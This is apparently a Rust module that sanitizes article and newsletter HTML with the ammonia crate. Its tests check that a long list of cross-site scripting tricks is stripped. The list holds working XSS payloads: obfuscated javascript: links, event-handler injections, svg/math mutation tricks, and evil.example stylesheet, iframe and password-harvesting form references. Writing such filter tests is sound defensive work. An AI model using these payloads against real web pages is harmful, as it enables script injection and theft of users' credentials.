//! HTML taken apart and put together again out of what is allowed. Everything else goes: scripts, styles, ids and
//! classes (which would reach into the page around it), frames, forms, and addresses that are not of the web.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

use crate::domain::html::DROPPED;

const ELEMENTS: &str = "a abbr b blockquote br caption cite code dd del div dl dt em figcaption figure h2 h3 h4 h5 h6 hr \
    i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr ul";

const ATTRIBUTES: [(&str, &str); 6] = [
    ("a", "href title"),
    ("abbr", "title"),
    ("img", "alt height src title width"),
    ("ol", "start"),
    ("td", "colspan rowspan"),
    ("th", "colspan rowspan"),
];

static ALLOWED: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let set = |words: &'static str| words.split_whitespace().collect::<HashSet<_>>();
    let alignment = || HashMap::from([("align", set("center left right"))]);
    let mut builder = Builder::empty();
    builder
        .tags(set(ELEMENTS))
        // Of others that are not allowed, the text stays.
        .clean_content_tags(HashSet::from(DROPPED))
        .tag_attributes(ATTRIBUTES.into_iter().map(|(element, names)| (element, set(names))).collect())
        .tag_attribute_values(HashMap::from([("td", alignment()), ("th", alignment())]))
        .generic_attributes(set("dir lang"))
        .url_schemes(set("http https mailto"))
        // They lead to this site.
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener"));
    builder
});

pub fn clean(html: &str) -> String {
    ALLOWED.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use std::cell::RefCell;

    use html5ever::tokenizer::{BufferQueue, Tag, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};

    use crate::markdown::article_html;

    #[test]
    fn what_newsletters_are_written_with_stays() {
        for (markdown, expected) in [
            ("A<br>B <sup>2</sup>", "<p>A<br>B <sup>2</sup></p>\n"),
            (
                "[site](https://example.org/a?b=c&d=e \"T\")",
                "<p><a href=\"https://example.org/a?b=c&amp;d=e\" title=\"T\" rel=\"noopener\">site</a></p>\n",
            ),
            ("[e](/events/3)", "<p><a href=\"/events/3\" rel=\"noopener\">e</a></p>\n"),
            ("<ada@example.org>", "<p><a href=\"mailto:ada@example.org\" rel=\"noopener\">ada@example.org</a></p>\n"),
            (
                "https://example.org",
                "<p><a href=\"https://example.org\" rel=\"noopener\">https://example.org</a></p>\n",
            ),
            ("![A seal](https://example.org/a.png)", "<p><img src=\"https://example.org/a.png\" alt=\"A seal\"></p>\n"),
            ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"),
            ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
            (
                "|a|\n|:-:|\n|1|",
                "<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n\
                 <td align=\"center\">1</td>\n</tr>\n</tbody>\n</table>\n",
            ),
            ("<p lang=zh>标准</p>", "<p lang=\"zh\">标准</p>\n"),
            ("`<script>` & ~~old~~", "<p><code>&lt;script&gt;</code> &amp; <del>old</del></p>\n"),
            ("<div>\n\n*still* Markdown\n\n</div>", "<div>\n<p><em>still</em> Markdown</p>\n</div>\n"),
        ] {
            assert_eq!(article_html(markdown), expected, "{markdown}");
        }
    }

    /// In the manner of the lists of tricks that filters are tried with.
    const TRICKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u{0}>alert(1)</script>",
        "<<script>alert(1);//<</script>",
        "<script>\n\nalert(1)\n\n</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://example.org/a.png\" onload=\"alert(1)\">",
        "<img/src=`x`onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "<img src=javascript:alert(1)>",
        "<img src=\"jav\tascript:alert(1)\">",
        "<img src=\"&#106;&#97;&#118;&#97;script:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=x:x srcset=\"javascript:alert(1) 2x\" dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<template><img src=x onerror=alert(1)></template>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: <java&Tab;script:alert(1)>",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href=\"https://example.org\" onclick=alert(1)>x</a>",
        "<a href=\"https://example.org\" target=_top ping=https://evil.example id=nav class=button>x</a>",
        "<a name=x style=\"position:fixed;inset:0\" href=https://evil.example>x</a>",
        "<b onmouseover=alert(1)>x</b>",
        "*a <b onmouseover=alert(1)>x</b> b*",
        "- item\n\n  <img src=x onerror=alert(1)>",
        "> <svg/onload=alert(1)>",
        "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<video poster=javascript:alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1) background=javascript:alert(1)>",
        "<html onclick=alert(1)>",
        "<frameset onload=alert(1)>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<q cite=\"javascript:alert(1)\">x</q>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>",
        "<x onclick=alert(1) contenteditable>x</x>",
        "<a href=\"https://example.org/\"\" onmouseover=alert(1) x=\"\">x</a>",
        "[x](https://example.org/\"onmouseover=\"alert(1))",
        "[x](https://example.org/ '\"onmouseover=\"alert(1)')",
        "![\" onerror=alert(1) x=\"](https://example.org/a.png)",
        "https://example.org/\"onmouseover=alert(1)",
        "`` ` ``<script>alert(1)</script>",
        "``` \" onload=alert(1) x=\"\n</code></pre><script>alert(1)</script>\n```",
    ];

    #[test]
    fn no_trick_gets_past() {
        let site = url::Url::parse("https://site.example/").unwrap();
        for trick in TRICKS {
            let html = article_html(trick);
            for tag in tags(&html) {
                assert!(
                    super::ELEMENTS.split(' ').any(|known| *known == *tag.name),
                    "{trick}\ngave <{}> in {html}",
                    tag.name
                );
                for attribute in tag.attrs {
                    let (name, value) = (&*attribute.name.local, &*attribute.value);
                    let is_known = ["align", "alt", "href", "rel", "src", "start", "title"].contains(&name);
                    assert!(is_known, "{trick}\ngave {name} in {html}");
                    if matches!(name, "href" | "src") {
                        let url = site.join(value).unwrap();
                        let is_safe = ["http", "https", "mailto"].contains(&url.scheme());
                        assert!(is_safe, "{trick}\ngave {name}={value} in {html}");
                    }
                }
            }
            // What is safe stays so when it is read again.
            assert_eq!(super::clean(&html), html, "{trick}");
        }
    }

    #[test]
    fn what_is_nested_beyond_reason_is_no_trouble() {
        for piece in ["<div>", "<b>", "> ", "- ", "[", "*a ", "<table><tr><td>"] {
            let html = article_html(&piece.repeat(1_000));
            assert!(!html.contains("<script"));
        }
    }

    /// The tags that a browser finds.
    #[derive(Default)]
    struct Seen(RefCell<Vec<Tag>>);

    impl TokenSink for Seen {
        type Handle = ();

        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
            match token {
                Token::TagToken(tag) => self.0.borrow_mut().push(tag),
                Token::CommentToken(_) | Token::DoctypeToken(_) => panic!("{token:?}"),
                _ => {}
            }
            TokenSinkResult::Continue
        }
    }

    fn tags(html: &str) -> Vec<Tag> {
        let input = BufferQueue::default();
        input.push_back(html.into());
        let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
        let _ = tokenizer.feed(&input);
        tokenizer.end();
        tokenizer.sink.0.into_inner()
    }
}
